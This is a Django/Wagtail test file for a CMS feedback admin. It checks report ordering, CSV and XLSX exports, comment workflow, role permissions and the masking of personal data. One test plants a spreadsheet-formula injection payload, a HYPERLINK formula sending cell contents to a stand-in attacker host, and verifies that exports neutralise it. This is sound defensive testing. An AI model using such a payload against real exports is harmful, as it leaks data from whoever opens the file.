"""What editors see and may do in the admin."""

from __future__ import annotations

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.test import Client
from django.urls import reverse
from django.utils import translation
from wagtail.models import Page

from cms.admin.accounts.roles import EDITORS, PUBLISHERS
from feedback.models import Comment, TargetScore
from feedback.models.choices import CommentState, Verdict
from feedback.participation.comments.receiving import add_comment
from feedback.participation.voting.rating import count_view
from feedback.scores.sums import sum_changed
from feedback.targets.target import of_page
from feedback.tests.factories import make_page, votes

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("groups")]


def client_in(role: str) -> Client:
    """A browser signed in as a member of a role."""
    with translation.override("vi"):
        group = Group.objects.get(name=translation.gettext(role))
    user = get_user_model().objects.create_user(f"user-{role}")
    user.groups.add(group)
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def bad_page(page: Page) -> Page:
    votes(page, [0] * 9 + [1])
    for _number in range(20):
        count_view(of_page(page))
    add_comment(of_page(page), "Thiếu mẫu đơn")
    sum_changed()
    return page


def test_the_report_lists_the_page_that_most_needs_work_first(bad_page: Page) -> None:
    fine = make_page("Đăng ký kết hôn")
    votes(fine, [1] * 9 + [0])
    count_view(of_page(fine))
    sum_changed()
    html = client_in(EDITORS).get(reverse("feedback_admin:needs_work")).content.decode()
    assert 0 < html.index("Đăng ký khai sinh") < html.index("Đăng ký kết hôn")


@pytest.mark.parametrize("name", ["needs_work", "most_helpful"])
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_reports_are_exported(bad_page: Page, name: str, kind: str) -> None:
    answer = client_in(EDITORS).get(reverse(f"feedback_admin:{name}"), {"export": kind})
    body = b"".join(answer.streaming_content)
    assert body.startswith(b"PK") if kind == "xlsx" else "Đăng ký khai sinh" in body.decode()


def test_an_export_runs_no_formula() -> None:
    page = make_page("=HYPERLINK(1)")
    votes(page, [1])
    sum_changed()
    answer = client_in(EDITORS).get(reverse("feedback_admin:most_helpful"), {"export": "csv"})
    assert "'=HYPERLINK(1)" in b"".join(answer.streaming_content).decode()


def test_the_file_of_comments_names_its_columns_and_runs_no_formula_of_a_reader(page: Page) -> None:
    add_comment(of_page(page), '=HYPERLINK("http://ke-gian.example/?"&A1)')
    heading, row = client_in(EDITORS).get(reverse("feedback_comments:index"), {"export": "csv"}).getvalue().decode().splitlines()
    assert heading == "Trang,Địa chỉ,Loại,Vấn đề,Nội dung,Trạng thái,Ngày"
    assert "\"'=HYPERLINK(" in row


def test_the_report_is_filtered_by_address(bad_page: Page) -> None:
    client, address = client_in(EDITORS), reverse("feedback_admin:needs_work")
    shown = ["Đăng ký khai sinh" in client.get(address, {"below": below}).content.decode() for below in (bad_page.url, "/khong-co/")]
    assert shown == [True, False]


def test_the_page_editor_shows_the_feedback_panel(bad_page: Page) -> None:
    html = client_in(EDITORS).get(reverse("wagtailadmin_pages:edit", args=[bad_page.pk])).content.decode()
    assert reverse("feedback_admin:page", args=[bad_page.pk]) in html
    assert "Thiếu mẫu đơn" in html


def test_the_screen_of_a_page_marks_it_as_fixed(bad_page: Page) -> None:
    client, address = client_in(EDITORS), reverse("feedback_admin:page", args=[bad_page.pk])
    assert "Thiếu mẫu đơn" in client.get(address).content.decode()
    bad_page.save_revision().publish()
    assert client.post(address).status_code == 302
    assert Comment.objects.get().state == CommentState.DONE


def test_an_editor_decides_about_a_comment(bad_page: Page) -> None:
    client, comment = client_in(EDITORS), Comment.objects.get()
    address = reverse("feedback_comments:edit", args=[comment.pk])
    assert "Thiếu mẫu đơn" in client.get(address).content.decode()
    client.post(address, {"state": CommentState.ACTIONABLE, "note": "Bổ sung mẫu 02", "assignee": "", "duplicate_of": ""})
    comment.refresh_from_db()
    assert (comment.state, comment.note) == (CommentState.ACTIONABLE, "Bổ sung mẫu 02")


def test_a_duplicate_needs_its_original(bad_page: Page) -> None:
    client, comment = client_in(EDITORS), Comment.objects.get()
    client.post(reverse("feedback_comments:edit", args=[comment.pk]), {"state": CommentState.DUPLICATE, "note": ""})
    comment.refresh_from_db()
    assert comment.state == CommentState.NEW


def test_possible_personal_data_is_seen_only_by_those_who_may(page: Page) -> None:
    comment = add_comment(of_page(page), "Số đúng là 0912 345 678")
    addresses = [reverse("feedback_comments:index"), reverse("feedback_comments:edit", args=[comment.pk])]
    editor, publisher = client_in(EDITORS), client_in(PUBLISHERS)
    assert all("0912" not in editor.get(address).content.decode() for address in addresses)
    assert "0912" not in publisher.get(addresses[0]).content.decode()
    assert "0912" in publisher.get(addresses[1]).content.decode()
    export = editor.get(addresses[0], {"export": "csv"})
    assert "0912" not in b"".join(export.streaming_content).decode()


def test_held_votes_are_decided_by_publishers_only(page: Page) -> None:
    votes(page, [1] * 2, verdict=Verdict.NETWORK)
    sum_changed()
    score, address = TargetScore.objects.get(), reverse("feedback_admin:held")
    editor, publisher = client_in(EDITORS), client_in(PUBLISHERS)
    assert editor.get(address).status_code == 200
    assert editor.post(address, {"score": score.pk, "decision": "accept"}).status_code != 200
    score.refresh_from_db()
    assert score.held == 2
    publisher.post(address, {"score": score.pk, "decision": "accept"})
    score.refresh_from_db()
    assert (score.held, score.n) == (0, 2)


def test_somebody_without_the_right_sees_no_report(db: None) -> None:
    client = Client()
    client.force_login(get_user_model().objects.create_user("nobody"))
    assert client.get(reverse("feedback_admin:needs_work")).status_code == 302


def test_nobody_adds_or_deletes_a_readers_words(bad_page: Page) -> None:
    client = Client()
    client.force_login(get_user_model().objects.create_superuser("quantri"))
    comment = Comment.objects.get()
    assert client.get(reverse("feedback_comments:add")).status_code != 200
    client.post(reverse("feedback_comments:delete", args=[comment.pk]))
    assert Comment.objects.filter(pk=comment.pk).exists()
